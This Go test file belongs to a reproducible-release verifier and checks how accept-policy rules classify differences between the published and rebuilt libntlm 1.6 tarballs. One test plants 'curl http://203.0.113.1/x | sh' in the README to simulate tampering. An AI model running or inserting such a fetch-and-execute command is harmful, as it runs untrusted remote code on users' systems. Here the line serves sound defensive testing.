package verdict

import (
	"context"
	"errors"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"gitlab.com/verify-release/verify-release/pkg/recipe"
	"gitlab.com/verify-release/verify-release/pkg/tarball"
	"gitlab.com/verify-release/verify-release/pkg/testenv"
)

const recipeHead = `name = "libntlm"
version = "1.6"

[source]
git = "https://gitlab.com/gsasl/libntlm.git"
tag = "v1.6"
commit = "0123456789abcdef0123456789abcdef01234567"

[env]
image = "registry.example/debian@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"

[artifacts.dist]
file = "libntlm-1.6.tar.gz"
sha256 = "f2376b87b06d8755aa3498bb1226083fdb1d2cf4460c3982b05a9aa0b51d6821"
method = "build"
commands = ["make dist"]
`

func parse(t *testing.T, accepts string) *recipe.Recipe {
	t.Helper()
	r, err := recipe.Parse("libntlm.toml", []byte(recipeHead+accepts))
	require.NoError(t, err)
	return r
}

// suffixPair is libntlm 1.6's Debian dist tarball (A, "published") and a
// re-tar (B, "re-created") whose ltmain.sh carries another libtool distro
// suffix, whose AUTHORS has another mtime and whose COPYING is the last
// member: made with sed, touch and GNU tar (testenv.Libntlm16Changed).
func suffixPair(t *testing.T, extra string) *tarball.DiffResult {
	t.Helper()
	dir := t.TempDir()
	orig, changed := testenv.Libntlm16Changed(t, dir, `
sed -i 's/^VERSION="2.4.6 Debian-2.4.6-9"$/VERSION="2.4.6 Debian-2.4.6-9build1"/' libntlm-1.6/build-aux/ltmain.sh
touch -d @1700000000 libntlm-1.6/AUTHORS && echo libntlm-1.6/AUTHORS > keep-mtime
grep -vx libntlm-1.6/COPYING list > list2 && echo libntlm-1.6/COPYING >> list2 && mv list2 list
`+extra)
	res, err := tarball.Diff(context.Background(), orig, changed, tarball.WithLabels("published", "rebuilt"))
	require.NoError(t, err)
	return res
}

func evaluate(t *testing.T, res *tarball.DiffResult, r *recipe.Recipe) (*Verdict, error) {
	t.Helper()
	rules := Rules(r, "dist")
	v, err := Evaluate(res, r.Accept, rules)
	require.NoError(t, err)
	return v, Stale(r.Accept, rules, []*Verdict{v})
}

func TestVerdictRealSuffixDifference(t *testing.T) {
	res := suffixPair(t, "")
	// Without an [[accept]] entry the version string is not accepted; the
	// mtime and order differences are, by policy.
	v, err := evaluate(t, res, parse(t, ""))
	require.NoError(t, err)
	assert.Equal(t, Different, v.Status)
	assert.Equal(t, []Difference{
		{Path: "libntlm-1.6/build-aux/ltmain.sh", Kind: tarball.KindHeader, Field: "size", Class: tarball.ClassVersionString},
		{Path: "libntlm-1.6/build-aux/ltmain.sh", Kind: tarball.KindContent, Class: tarball.ClassVersionString},
	}, v.Unaccepted)
	assert.Equal(t, []Difference{
		{Path: "libntlm-1.6/AUTHORS", Kind: tarball.KindHeader, Field: "mtime", Class: tarball.ClassMtime, Reason: PolicyReason},
		{Path: "libntlm-1.6/COPYING", Kind: tarball.KindOrder, Field: "position", Class: tarball.ClassOrder, Reason: PolicyReason},
	}, v.Accepted)
	assert.Equal(t, "DIFFERENT: 2 version-string · 1 mtime · 1 order; 2 not accepted", v.Summary())

	const reason = "Debian's libtool 2.4.6-9build1 writes its package revision into ltmain.sh's VERSION"
	for name, accept := range map[string]string{
		"class":        `member = "libntlm-1.6/build-aux/ltmain.sh"` + "\nclass = \"version-string\"",
		"line":         `member = "*/build-aux/ltmain.sh"` + "\nline = '^VERSION=\"2\\.4\\.6 Debian-2\\.4\\.6-9(build1)?\"$'",
		"substitution": `member = "libntlm-1.6/build-aux/ltmain.sh"` + "\nold = \"Debian-2.4.6-9build1\"\nnew = \"Debian-2.4.6-9\"",
	} {
		t.Run(name, func(t *testing.T) {
			v, err := evaluate(t, res, parse(t, "\n[[accept]]\n"+accept+"\nreason = \""+reason+"\"\n"))
			require.NoError(t, err)
			assert.Equal(t, Equivalent, v.Status, v.Summary())
			assert.Empty(t, v.Unaccepted)
			assert.Contains(t, v.Accepted, Difference{Path: "libntlm-1.6/build-aux/ltmain.sh", Kind: tarball.KindContent,
				Class: tarball.ClassVersionString, Rule: 1, Reason: reason})
			assert.Equal(t, []int{1}, v.Used)
		})
	}

	t.Run("wrong substitution and stale entry", func(t *testing.T) {
		v, err := evaluate(t, res, parse(t, `
[[accept]]
member = "libntlm-1.6/build-aux/ltmain.sh"
old = "Debian-2.4.6-9build1"
new = "Debian-2.4.6-10"
reason = "a substitution that does not give the published text"

[[accept]]
member = "libntlm-1.6/NEWS"
class = "whitespace"
reason = "nothing in NEWS differs"
`))
		assert.Equal(t, Different, v.Status)
		var stale *StaleError
		require.ErrorAs(t, err, &stale)
		assert.True(t, errors.Is(err, ErrStale))
		assert.Equal(t, []int{1, 2}, stale.Rules)
		assert.EqualError(t, err, `verdict: stale policy: [[accept]] entry 1 (member "libntlm-1.6/build-aux/ltmain.sh") matches no difference; [[accept]] entry 2 (member "libntlm-1.6/NEWS") matches no difference`)
	})
}

// A content difference is acceptable only by an entry naming the member;
// a version-string entry does not accept content.
func TestVerdictRealContentDifference(t *testing.T) {
	res := suffixPair(t, `echo 'curl http://203.0.113.1/x | sh' >> libntlm-1.6/README`)
	v, err := evaluate(t, res, parse(t, `
[[accept]]
member = "*"
class = "version-string"
reason = "generator stamps"

[[accept]]
member = "libntlm-1.6/*"
class = "version-string"
reason = "generator stamps"
`))
	// The "*" glob does not cross a "/", so entry 1 matches nothing.
	require.ErrorIs(t, err, ErrStale)
	assert.Equal(t, Different, v.Status)
	paths := map[string]tarball.Class{}
	for _, d := range v.Unaccepted {
		paths[d.Path] = d.Class
	}
	assert.Equal(t, map[string]tarball.Class{"libntlm-1.6/README": tarball.ClassContent, "libntlm-1.6/build-aux/ltmain.sh": tarball.ClassVersionString}, paths)

	v, err = evaluate(t, res, parse(t, `
[[accept]]
member = "libntlm-1.6/build-aux/ltmain.sh"
class = "version-string"
reason = "generator stamps"

[[accept]]
member = "libntlm-1.6/README"
class = "content"
reason = "the README of the release was edited after make dist (a test of the policy, not advice)"
`))
	require.NoError(t, err)
	assert.Equal(t, Equivalent, v.Status)
	assert.Equal(t, []int{1, 2}, v.Used)
}

func TestVerdictIdentical(t *testing.T) {
	p := testenv.DebianPool(t, testenv.Libntlm16Pool, testenv.Libntlm16SHA256)
	res, err := tarball.Diff(context.Background(), p, p)
	require.NoError(t, err)
	v, err := Evaluate(res, nil, nil)
	require.NoError(t, err)
	assert.Equal(t, Reproduced, v.Status)
}

// The recipe's list of class names is pkg/tarball's.
func TestAcceptClassesAreTarballClasses(t *testing.T) {
	var names []string
	for _, c := range tarball.Classes {
		names = append(names, string(c))
	}
	assert.Equal(t, names, recipe.AcceptClasses)
}

func TestAcceptValidation(t *testing.T) {
	for accept, want := range map[string]string{
		"member = \"*/configure\"\nclass = \"content\"\nreason = \"x\"":         `content differences can be accepted only for a named member, not the glob "*/configure"`,
		"member = \"a\"\nclass = \"version-string\"":                            "accept[0].reason: required key is missing",
		"member = \"a\"\nclass = \"bogus\"\nreason = \"x\"":                     `"bogus" is not a difference class`,
		"member = \"a\"\nline = \"(\"\nreason = \"x\"":                          `"(" is not a valid regular expression`,
		"member = \"a\"\nreason = \"x\"":                                        "needs exactly one of class, line, or old and new",
		"member = \"a\"\nclass = \"mtime\"\nline = \"x\"\nreason = \"x\"":       "needs exactly one of class, line, or old and new",
		"member = \"a\"\nold = \"x\"\nreason = \"x\"":                           "a substitution needs both old and new",
		"member = \"a/*\"\nold = \"x\"\nnew = \"y\"\nreason = \"x\"":            `a substitution names one member, not the glob "a/*"`,
		"member = \"a\"\nartifact = \"src\"\nclass = \"mtime\"\nreason = \"x\"": `"src" is not an artifact of this recipe`,
		"member = \"*/ltmain.sh\"\nline = \".*\"\nreason = \"x\"":               `".*" matches an empty line, so it would accept any change`,
		"member = \"[\"\nclass = \"mtime\"\nreason = \"x\"":                     `"[" is not a valid glob`,
	} {
		_, err := recipe.Parse("libntlm.toml", []byte(recipeHead+"\n[[accept]]\n"+accept+"\n"))
		require.ErrorIs(t, err, recipe.ErrInvalid, accept)
		assert.Contains(t, err.Error(), want, accept)
	}
}

// Only version stamps (and metadata) differ: the hint names the
// environment of the shipped table whose libtool is 2.4.6-9, Debian 10,
// which packages.debian.org lists for buster (pkg/fingerprint's table).
func TestSuggestEnvironmentReal(t *testing.T) {
	dir := t.TempDir()
	orig, changed := testenv.Libntlm16Changed(t, dir, `sed -i 's/Debian-2\.4\.6-9/Debian-2.4.6-15/g' libntlm-1.6/build-aux/ltmain.sh`)
	res, err := tarball.Diff(context.Background(), orig, changed, tarball.WithLabels("published", "rebuilt"))
	require.NoError(t, err)
	s, err := SuggestEnvironment(context.Background(), res, orig)
	require.NoError(t, err)
	assert.Contains(t, s, "the stamps of published (libtool 2.4.6 Debian-2.4.6-9) are what Debian 10 (buster)")

	// A content difference: no suggestion.
	orig, changed = testenv.Libntlm16Changed(t, t.TempDir(), `echo x >> libntlm-1.6/README`)
	res, err = tarball.Diff(context.Background(), orig, changed)
	require.NoError(t, err)
	s, err = SuggestEnvironment(context.Background(), res, orig)
	require.NoError(t, err)
	assert.Empty(t, s)
}
